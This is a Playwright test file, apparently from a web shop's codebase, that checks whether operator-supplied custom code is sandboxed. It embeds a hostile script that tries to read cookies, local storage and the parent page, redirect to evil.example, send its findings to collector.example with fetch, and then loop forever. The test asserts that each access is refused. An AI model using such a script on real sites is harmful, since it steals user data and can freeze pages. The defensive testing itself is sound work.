import { expect } from '@playwright/test';
import { customCodePolicy } from '../../server/edge/html/custom-code.ts';
import { onScreen, openWithSession, test } from './shop.ts';
import { say } from './words.ts';

/** Looks for everything that it must not get, tells what it found, and then never ends. */
const code = `
  const look = (name, find) => {
    let found;
    try { found = String(find()); } catch (error) { found = 'refused'; }
    return [name, found];
  };
  const found = Object.fromEntries([
    look('origin', () => self.origin),
    look('cookie', () => document.cookie),
    look('storage', () => localStorage.length),
    look('parent', () => parent.document.title),
    look('leave', () => { top.location = 'https://evil.example/'; return 'left'; }),
    look('opened', () => open('https://evil.example/')),
  ]);
  addEventListener('message', (event) => {
    fetch('https://collector.example/' + encodeURIComponent(JSON.stringify({ ...found, told: event.data })), { mode: 'no-cors' })
      .finally(() => { for (;;); });
  });
  parent.postMessage({ type: 'visit', to: '/login' }, '*');
`;

test.describe('the code of an operator', () => {
  test.use({ foreseen: /^(?:Unsafe attempt to initiate navigation|Blocked opening)/ });

  test('gets at nothing of the shop, and the shop stays alive when it never ends', async ({ page, shop }) => {
    const told: Record<string, unknown>[] = [];
    await page.route('https://collector.example/**', async (route) => {
      told.push(JSON.parse(decodeURIComponent(new URL(route.request().url()).pathname.slice(1))));
      await route.fulfill({ status: 204 });
    });
    await page.route(
      (url) => url.pathname === '/app/profile',
      async (route) => {
        const reply = await route.fetch();
        const settings = `"settings":{"customCodeAllowed":true,"customCode":"x",`;
        await route.fulfill({ response: reply, body: (await reply.text()).replace('"settings":{', settings) });
      },
    );
    await page.route('**/app/frames/custom-code', (route) =>
      route.fulfill({
        contentType: 'text/html',
        headers: { 'content-security-policy': customCodePolicy },
        body: '<!doctype html><script src="/app/frames/custom-code.js"></script>',
      }),
    );
    await page.route('**/app/frames/custom-code.js', (route) =>
      route.fulfill({ contentType: 'text/javascript', body: code }),
    );

    await openWithSession(page, shop, '/profile');
    expect(told).toEqual([]);
    await onScreen(page, say('profile.title'))
      .getByRole('button', { name: say('shell.cookies_accept') })
      .click();
    // It is told the page, and once how the shop is shown.
    await expect.poll(() => told).toHaveLength(2);
    const found = {
      origin: 'null',
      cookie: 'refused',
      storage: 'refused',
      parent: 'refused',
      leave: 'refused',
      opened: 'null',
    };
    expect(told).toEqual([
      { ...found, told: { type: 'page', path: '/profile' } },
      { ...found, told: { type: 'event', name: 'display-mode', data: { mode: 'browser' } } },
    ]);

    const profile = onScreen(page, say('profile.title'));
    await profile.getByRole('button', { name: say('common.profile_menu') }).click();
    await profile.getByRole('menuitem', { name: say('common.log_out') }).click();
    await page.waitForURL(/\/login/);
  });
});
